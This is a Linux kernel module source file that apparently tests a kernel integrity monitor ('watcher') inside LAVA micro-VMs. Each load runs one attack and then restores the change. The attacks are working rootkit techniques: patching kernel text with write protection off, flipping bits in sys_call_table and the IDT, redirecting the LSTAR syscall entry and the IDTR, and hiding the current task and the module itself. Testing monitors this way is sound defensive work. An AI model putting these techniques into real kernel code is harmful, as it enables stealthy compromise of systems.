// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks on the watcher, one per load: `insmod watcher.ko attack=NAME`. Each does its one thing to the kernel it runs in, says on
 * the console what it sees afterwards, undoes it, and refuses to stay loaded. For LAVA's micro-VMs: it looks for the marker first.
 */
#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/sched/signal.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/pgtable.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("LAVA: attacks on the watcher");

static char *attack = "";
module_param(attack, charp, 0);

#define MARKER "/opt/scenario/MARKER"
#define say(format, ...) pr_emerg("watcher: %s: " format "\n", attack, ##__VA_ARGS__)
/* Nothing is ever mapped there: it is not canonical. */
#define WILD ((void *)0xdead4ead00000000UL)
#define LOOPS 4

/* mov $0x1234,%eax; ret */
static const u8 patch[] = { 0xb8, 0x34, 0x12, 0x00, 0x00, 0xc3 };
static u8 saved[sizeof(patch)];

static unsigned long (*lookup)(const char *name);
/* Called through a pointer, so that the compiler computes nothing itself. */
static unsigned long (*volatile root)(unsigned long) = int_sqrt;

static unsigned long find(const char *name)
{
	unsigned long address = lookup ? lookup(name) : 0;

	if (!address)
		say("no %s", name);
	return address;
}

/* kallsyms_lookup_name is not exported; a probe on it says where it is. */
static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static void write_cr0_unpinned(unsigned long value)
{
	asm volatile("mov %0,%%cr0" : : "r"(value) : "memory");
}

static void *alias(void *address, void **page)
{
	struct page *pages[2];
	unsigned long at = (unsigned long)address & PAGE_MASK;
	phys_addr_t physical = slow_virt_to_phys((void *)at);

	pages[0] = pfn_to_page(physical >> PAGE_SHIFT);
	pages[1] = pfn_to_page((physical >> PAGE_SHIFT) + 1);
	*page = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
	return *page ? *page + offset_in_page(address) : NULL;
}

static void result(void)
{
	say("int_sqrt(144) = %lu", root(144));
}

/* The function's first bytes, with write protection off. */
static void by_cr0(void)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	write_cr0_unpinned(cr0 & ~X86_CR0_WP);
	memcpy((void *)int_sqrt, patch, sizeof(patch));
	write_cr0_unpinned(cr0);
	local_irq_restore(flags);
	result();
	local_irq_save(flags);
	write_cr0_unpinned(cr0 & ~X86_CR0_WP);
	memcpy((void *)int_sqrt, saved, sizeof(saved));
	write_cr0_unpinned(cr0);
	local_irq_restore(flags);
}

/* Through the page table's own right to write. */
static void by_page_table(void)
{
	unsigned int level;
	pte_t *entry = lookup_address((unsigned long)int_sqrt, &level);
	unsigned long flags;
	pteval_t old;

	if (!entry)
		return;
	old = pte_val(*entry);
	local_irq_save(flags);
	WRITE_ONCE(entry->pte, old | _PAGE_RW);
	asm volatile("invlpg (%0)" : : "r"(int_sqrt) : "memory");
	memcpy((void *)int_sqrt, patch, sizeof(patch));
	local_irq_restore(flags);
	result();
	memcpy((void *)int_sqrt, saved, sizeof(saved));
	WRITE_ONCE(entry->pte, old);
	asm volatile("invlpg (%0)" : : "r"(int_sqrt) : "memory");
}

static void by_vmap(void)
{
	void *page;
	u8 *place = alias(int_sqrt, &page);

	if (!place)
		return;
	memcpy(place, patch, sizeof(patch));
	result();
	memcpy(place, saved, sizeof(saved));
	vunmap(page);
}

/* The kernel's own tool in the wrong hands. */
static void by_text_poke(void)
{
	void *(*poke)(void *, const void *, size_t) = (void *)find("text_poke");
	struct mutex *mutex = (void *)find("text_mutex");

	if (!poke || !mutex)
		return;
	mutex_lock(mutex);
	poke(int_sqrt, patch, sizeof(patch));
	mutex_unlock(mutex);
	result();
	mutex_lock(mutex);
	poke(int_sqrt, saved, sizeof(saved));
	mutex_unlock(mutex);
}

static void flip(const char *name, size_t offset)
{
	u8 *table = (u8 *)find(name);
	unsigned long *place, old;
	void *page;

	if (!table)
		return;
	place = alias(table + offset, &page);
	if (!place)
		return;
	old = READ_ONCE(*place);
	WRITE_ONCE(*place, old ^ 0x10);
	say("%s", READ_ONCE(*place) == old ? "unchanged" : "changed");
	if (READ_ONCE(*place) != old)
		WRITE_ONCE(*place, old);
	vunmap(page);
}

/* A device is told to read the disk into the function's page. */
static void by_dma(void)
{
	phys_addr_t physical = slow_virt_to_phys((void *)int_sqrt) & ~511UL;
	struct file *disk = filp_open("/dev/vda", O_RDONLY, 0);
	struct bio *bio;
	int error;

	if (IS_ERR(disk)) {
		say("no disk");
		return;
	}
	bio = bio_alloc(I_BDEV(disk->f_mapping->host), 1, REQ_OP_READ, GFP_KERNEL);
	bio->bi_iter.bi_sector = 64;
	if (bio_add_page(bio, pfn_to_page(physical >> PAGE_SHIFT), 512, physical & ~PAGE_MASK) == 512) {
		error = submit_bio_wait(bio);
		say("the device said %d", error);
	}
	bio_put(bio);
	filp_close(disk, NULL);
	result();
}

static noinline int victim(int x)
{
	return x * 3 + 1;
}

static void own_text(void)
{
	unsigned long flags, cr0;
	u8 byte = *(u8 *)victim;

	local_irq_save(flags);
	cr0 = read_cr0();
	write_cr0_unpinned(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*(u8 *)victim, 0xcc);
	WRITE_ONCE(*(u8 *)victim, byte);
	write_cr0_unpinned(cr0);
	local_irq_restore(flags);
	say("victim(3) = %d", victim(3));
}

static void move_entry(void)
{
	unsigned long flags, old;

	local_irq_save(flags);
	rdmsrl(MSR_LSTAR, old);
	wrmsrl(MSR_LSTAR, (unsigned long)victim);
	wrmsrl(MSR_LSTAR, old);
	local_irq_restore(flags);
	say("moved and back");
}

static void move_idt(void)
{
	struct desc_ptr old, moved;
	unsigned long flags;
	void *copy = (void *)get_zeroed_page(GFP_KERNEL);

	if (!copy)
		return;
	local_irq_save(flags);
	store_idt(&old);
	memcpy(copy, (void *)old.address, old.size + 1);
	moved.size = old.size;
	moved.address = (unsigned long)copy;
	asm volatile("lidt %0" : : "m"(moved));
	asm volatile("lidt %0" : : "m"(old));
	local_irq_restore(flags);
	free_page((unsigned long)copy);
	say("moved and back");
}

/* Runs on, in no list. */
static void hide_task(void)
{
	rwlock_t *tasks = (void *)find("tasklist_lock");
	int i;

	if (!tasks)
		return;
	write_lock_irq(tasks);
	list_del_rcu(&current->tasks);
	write_unlock_irq(tasks);
	for (i = 0; i < 20; i++)
		msleep(20);
	write_lock_irq(tasks);
	list_add_tail_rcu(&current->tasks, &init_task.tasks);
	write_unlock_irq(tasks);
	say("back");
}

static void hide_module(void)
{
	struct mutex *mutex = (void *)find("module_mutex");
	struct list_head *before;

	if (!mutex)
		return;
	mutex_lock(mutex);
	before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(mutex);
	msleep(3000);
	mutex_lock(mutex);
	list_add_rcu(&THIS_MODULE->list, before);
	mutex_unlock(mutex);
	say("back");
}

/* Names and links that no sound kernel has, at the moment at which the watcher reads them. The kernel itself does not look at them
 * when it writes to an open file. */
static void mess(void)
{
	static const char line[] = "mess\n";
	struct task_struct *parent = current->real_parent;
	struct file *files[LOOPS] = {};
	struct dentry saved_dentry, *dentry;
	char comm[TASK_COMM_LEN];
	loff_t position;
	int i;

	for (i = 0; i < LOOPS; i++) {
		char name[] = "/tmp/mess0";

		name[9] += i;
		files[i] = filp_open(name, O_CREAT | O_WRONLY, 0600);
		if (IS_ERR(files[i])) {
			say("cannot open %s", name);
			files[i] = NULL;
			goto out;
		}
	}
	for (i = 0; i < LOOPS; i++) {
		dentry = files[i]->f_path.dentry;
		saved_dentry.d_name = dentry->d_name;
		saved_dentry.d_parent = dentry->d_parent;
		memcpy(comm, current->comm, sizeof(comm));
		switch (i) {
		case 0:
			dentry->d_name.name = WILD;
			current->real_parent = WILD;
			break;
		case 1:
			dentry->d_name.len = 1 << 20;
			memset(current->comm, 0xff, sizeof(current->comm));
			break;
		case 2:
			dentry->d_parent = files[3]->f_path.dentry;
			files[3]->f_path.dentry->d_parent = dentry;
			break;
		case 3:
			dentry->d_parent = WILD;
			break;
		}
		position = 0;
		kernel_write(files[i], line, sizeof(line) - 1, &position);
		dentry->d_name = saved_dentry.d_name;
		if (i == 2)
			files[3]->f_path.dentry->d_parent = saved_dentry.d_parent;
		dentry->d_parent = saved_dentry.d_parent;
		current->real_parent = parent;
		memcpy(current->comm, comm, sizeof(comm));
	}
	say("survived");
out:
	for (i = 0; i < LOOPS; i++)
		if (files[i])
			filp_close(files[i], NULL);
}

static int watcher_init(void) /* not __init: its code stays where the module is said to lie */
{
	struct path marker;

	if (kern_path(MARKER, 0, &marker)) {
		pr_emerg("watcher: not in a LAVA micro-VM\n");
		return -EPERM;
	}
	path_put(&marker);
	if (find_lookup())
		say("no kallsyms_lookup_name");
	memcpy(saved, (void *)int_sqrt, sizeof(saved));
	if (!strcmp(attack, "cr0"))
		by_cr0();
	else if (!strcmp(attack, "page-table"))
		by_page_table();
	else if (!strcmp(attack, "vmap"))
		by_vmap();
	else if (!strcmp(attack, "text_poke"))
		by_text_poke();
	else if (!strcmp(attack, "dma"))
		by_dma();
	else if (!strcmp(attack, "syscall-table"))
		/* acct(2), which nobody calls */
		flip("sys_call_table", 163 * sizeof(long));
	else if (!strcmp(attack, "idt"))
		/* a vector of the processor's that is reserved */
		flip("idt_table", 31 * sizeof(gate_desc));
	else if (!strcmp(attack, "rodata"))
		flip("linux_banner", 0);
	else if (!strcmp(attack, "module-text"))
		own_text();
	else if (!strcmp(attack, "lstar"))
		move_entry();
	else if (!strcmp(attack, "idtr"))
		move_idt();
	else if (!strcmp(attack, "hide-task"))
		hide_task();
	else if (!strcmp(attack, "hide-module"))
		hide_module();
	else if (!strcmp(attack, "mess"))
		mess();
	else
		say("no such attack");
	return -ECANCELED;
}
module_init(watcher_init);
